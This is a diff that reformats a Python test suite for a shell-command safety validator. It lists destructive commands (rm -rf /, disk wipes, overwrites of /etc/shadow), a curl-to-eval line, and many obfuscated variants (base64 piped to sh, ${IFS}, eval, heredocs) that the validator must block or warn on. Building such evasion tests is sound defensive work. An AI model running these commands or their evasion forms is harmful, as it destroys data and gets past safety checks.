@@ -2,6 +2,7 @@
 
 Nothing here runs a command: every line is only read by caro's validator.
 """
+
 from __future__ import annotations
 
 import base64
@@ -45,8 +46,15 @@ def test_dangerous_rows_allowed_are_only_the_listed_disagreements(name):
 
 # -- invariants: a rewritten critical command is never judged lower than the plain one -------
 
-SEEDS = ["rm -rf /", "rm -rf ~", "chmod -R 777 /", "dd if=/dev/zero of=/dev/sda",
-         "chown -R nobody /", "find / -delete", "mv /etc /tmp/etc"]
+SEEDS = [
+    "rm -rf /",
+    "rm -rf ~",
+    "chmod -R 777 /",
+    "dd if=/dev/zero of=/dev/sda",
+    "chown -R nobody /",
+    "find / -delete",
+    "mv /etc /tmp/etc",
+]
 
 
 def _ansi_c(word: str) -> str:
@@ -58,17 +66,42 @@ def rewrites(seed: str) -> list[str]:
     words = seed.split()
     q = seed.replace("'", "'\\''")
     out = [
-        f"'{name}' {rest}", f'"{name}" {rest}', f"\\{name} {rest}", name[0] + "''" + name[1:] + " " + rest,
-        "{" + ",".join(words) + "}", "${IFS}".join(words), f"{_ansi_c(name)} {rest}",
-        f"x={name}; $x {rest}", f"set -- {seed}; \"$@\"", f"X='{rest}'; {name} $X",
-        f"sudo env A=1 nice -n 5 nohup timeout 5 {seed}", "sudo " * 40 + seed,
-        f"echo '{q}' | sh", f"printf '%s\\n' '{q}' | bash", f"eval '{q}'", f"eval \"$(echo '{q}')\"",
-        f"sh -c '{q}'", f"bash -c -- '{q}'", f"sh -c '{name} \"$@\"' _ {rest}", f"cat <<EOF | sh\n{seed}\nEOF",
-        f"sh <<< '{q}'", f"watch -n 1 '{q}'", f"echo {base64.b64encode(seed.encode()).decode()} | base64 -d | sh",
-        f"python3 -c 'import os; os.system(\"{seed}\")'", f"perl -e 'system \"{name}\", " + ", ".join(f'"{w}"' for w in words[1:]) + "'",
-        f"awk 'BEGIN{{system(\"{seed}\")}}'", f"function f {{ {seed}; }}; f", f"f() {{ {seed}; }}; f",
-        f"true && {seed}", f"( {seed} )", f"{{ {seed}; }}", f"if true; then {seed}; fi", f"echo hi # \n{seed}",
-        f"echo `{seed}`", f"echo $({seed})", f"X=1 {seed} 2>/dev/null",
+        f"'{name}' {rest}",
+        f'"{name}" {rest}',
+        f"\\{name} {rest}",
+        name[0] + "''" + name[1:] + " " + rest,
+        "{" + ",".join(words) + "}",
+        "${IFS}".join(words),
+        f"{_ansi_c(name)} {rest}",
+        f"x={name}; $x {rest}",
+        f'set -- {seed}; "$@"',
+        f"X='{rest}'; {name} $X",
+        f"sudo env A=1 nice -n 5 nohup timeout 5 {seed}",
+        "sudo " * 40 + seed,
+        f"echo '{q}' | sh",
+        f"printf '%s\\n' '{q}' | bash",
+        f"eval '{q}'",
+        f"eval \"$(echo '{q}')\"",
+        f"sh -c '{q}'",
+        f"bash -c -- '{q}'",
+        f"sh -c '{name} \"$@\"' _ {rest}",
+        f"cat <<EOF | sh\n{seed}\nEOF",
+        f"sh <<< '{q}'",
+        f"watch -n 1 '{q}'",
+        f"echo {base64.b64encode(seed.encode()).decode()} | base64 -d | sh",
+        f"python3 -c 'import os; os.system(\"{seed}\")'",
+        f'perl -e \'system "{name}", ' + ", ".join(f'"{w}"' for w in words[1:]) + "'",
+        f"awk 'BEGIN{{system(\"{seed}\")}}'",
+        f"function f {{ {seed}; }}; f",
+        f"f() {{ {seed}; }}; f",
+        f"true && {seed}",
+        f"( {seed} )",
+        f"{{ {seed}; }}",
+        f"if true; then {seed}; fi",
+        f"echo hi # \n{seed}",
+        f"echo `{seed}`",
+        f"echo $({seed})",
+        f"X=1 {seed} 2>/dev/null",
     ]
     return out
 
@@ -94,8 +127,12 @@ def test_rewrites_that_can_be_read_are_blocked(seed):
 @pytest.mark.parametrize("seed", SEEDS + [":(){ :|:& };:"])
 def test_the_same_text_as_quoted_data_is_not_blocked(seed):
     q = seed.replace("'", "'\\''")
-    for data in (f"echo '{q}'", f"grep -F '{q}' notes.txt", f"git commit -m 'docs: never run {q}'",
-                 f"printf '%s\\n' '{q}' >> dangerous-commands.txt"):
+    for data in (
+        f"echo '{q}'",
+        f"grep -F '{q}' notes.txt",
+        f"git commit -m 'docs: never run {q}'",
+        f"printf '%s\\n' '{q}' >> dangerous-commands.txt",
+    ):
         v = check(data)
         assert RISK_ORDER[v.risk] <= RISK_ORDER["moderate"], (data, v.reasons)
 
@@ -103,27 +140,73 @@ def test_the_same_text_as_quoted_data_is_not_blocked(seed):
 # -- the classes of miss the issue lists, each as its own case --------------------------------
 
 MUST_BLOCK_NOW = [
-    "rm -rf${IFS}/", "{rm,-rf,/}", "$'\\x72\\x6d' -rf /", "rm -rf /[a-z]*", "x=rm; $x -rf /",
-    "echo 'rm -rf /' | sh", "cat <<EOF | sh\nrm -rf /\nEOF", 'sh -c "$(cat <<EOF\nrm -rf /\nEOF\n)"',
-    "awk 'BEGIN{system(\"rm -rf /\")}'", "perl -e 'system \"rm\",\"-rf\",\"/\"'", "watch -n 1 'rm -rf /'",
-    "bash -c -- 'rm -rf /'", "X=1 > /etc/passwd", "env > /etc/shadow", "exec > /dev/sda",
-    "function f { rm -rf /; }; f", "chown -R nobody /./", "find /. -delete", "rm --rec --force /",
-    "cd / && rm -rf *", "cd; rm -rf *", "find / -name '*' -delete", "find / -type f -exec rm -f {} \\;", "chmod 000 /",
-    "truncate -s 0 /bin/bash", "chmod 777 /etc/shadow", "cp /dev/zero /dev/sda", "pkill -9 -u root",
-    "cryptsetup luksFormat /dev/sda1", "find / | xargs rm -rf", "sh -c 'rm -rf \"$1\"' _ /",
-    "eval \"$(echo cm0gLXJmIC8= | base64 -d)\"", "coproc x { rm -rf /; }", "rm -rf '' /",
+    "rm -rf${IFS}/",
+    "{rm,-rf,/}",
+    "$'\\x72\\x6d' -rf /",
+    "rm -rf /[a-z]*",
+    "x=rm; $x -rf /",
+    "echo 'rm -rf /' | sh",
+    "cat <<EOF | sh\nrm -rf /\nEOF",
+    'sh -c "$(cat <<EOF\nrm -rf /\nEOF\n)"',
+    "awk 'BEGIN{system(\"rm -rf /\")}'",
+    'perl -e \'system "rm","-rf","/"\'',
+    "watch -n 1 'rm -rf /'",
+    "bash -c -- 'rm -rf /'",
+    "X=1 > /etc/passwd",
+    "env > /etc/shadow",
+    "exec > /dev/sda",
+    "function f { rm -rf /; }; f",
+    "chown -R nobody /./",
+    "find /. -delete",
+    "rm --rec --force /",
+    "cd / && rm -rf *",
+    "cd; rm -rf *",
+    "find / -name '*' -delete",
+    "find / -type f -exec rm -f {} \\;",
+    "chmod 000 /",
+    "truncate -s 0 /bin/bash",
+    "chmod 777 /etc/shadow",
+    "cp /dev/zero /dev/sda",
+    "pkill -9 -u root",
+    "cryptsetup luksFormat /dev/sda1",
+    "find / | xargs rm -rf",
+    "sh -c 'rm -rf \"$1\"' _ /",
+    'eval "$(echo cm0gLXJmIC8= | base64 -d)"',
+    "coproc x { rm -rf /; }",
+    "rm -rf '' /",
 ]
 MUST_WARN_NOW = [
-    "history | bash", "history|sh", "eval \"$(curl -s http://x)\"", "git push origin :main", "git checkout -- ./",
-    "git update-ref -d refs/heads/main", "docker compose -f custom.yml down -v", "aws s3 sync /empty s3://bucket --delete",
-    "find . -type d -exec rm -r {} +", "nvme format /dev/nvme0n1", "git reset \u2010\u2010hard", "$(cat cmd.txt) /",
-    "cat script.txt | sh", "kubectl delete pod web-1", "sudo tee /etc/motd",
+    "history | bash",
+    "history|sh",
+    'eval "$(curl -s http://x)"',
+    "git push origin :main",
+    "git checkout -- ./",
+    "git update-ref -d refs/heads/main",
+    "docker compose -f custom.yml down -v",
+    "aws s3 sync /empty s3://bucket --delete",
+    "find . -type d -exec rm -r {} +",
+    "nvme format /dev/nvme0n1",
+    "git reset \u2010\u2010hard",
+    "$(cat cmd.txt) /",
+    "cat script.txt | sh",
+    "kubectl delete pod web-1",
+    "sudo tee /etc/motd",
 ]
 MUST_STAY_ALLOWED = [
-    "echo ':(){ :|:& };:'", "git commit -m ':(){ :|:& };:'", "kill -0 1", "kill -HUP 1", "chmod -R go-rwx ~/.ssh",
-    "chown -R $USER ~/.ssh", "mv ~/.config ~/.config.bak", "echo hi # ; rm -rf /", "grep 'rm -rf /' notes.txt",
-    "for f in *.log; do gzip \"$f\"; done", "X=$(date +%F); cp a \"b-$X\"", "git restore --staged .",
-    "kubectl apply -f deploy.yaml --force --dry-run=client", "rsync -an --delete src/ dst/",
+    "echo ':(){ :|:& };:'",
+    "git commit -m ':(){ :|:& };:'",
+    "kill -0 1",
+    "kill -HUP 1",
+    "chmod -R go-rwx ~/.ssh",
+    "chown -R $USER ~/.ssh",
+    "mv ~/.config ~/.config.bak",
+    "echo hi # ; rm -rf /",
+    "grep 'rm -rf /' notes.txt",
+    'for f in *.log; do gzip "$f"; done',
+    'X=$(date +%F); cp a "b-$X"',
+    "git restore --staged .",
+    "kubectl apply -f deploy.yaml --force --dry-run=client",
+    "rsync -an --delete src/ dst/",
 ]
 
 
@@ -156,7 +239,7 @@ def test_shells_differ_where_the_shells_differ():
     assert check("rm -rf (echo /)", shell="fish").action != "allow"
     assert check("begin; rm -rf ~; end", shell="fish").action == "block"
     assert check("for f in *.log; gzip $f; end", shell="fish").action == "allow"
-    assert check("for f in *.log; gzip $f; end", shell="bash").action == "warn"     # not bash
+    assert check("for f in *.log; gzip $f; end", shell="bash").action == "warn"  # not bash
     assert check("set x rm; $x -rf /", shell="fish").action == "block"
     # zsh: =rm is rm, glob qualifiers are part of the pattern
     assert check("=rm -rf /", shell="zsh").action == "block"
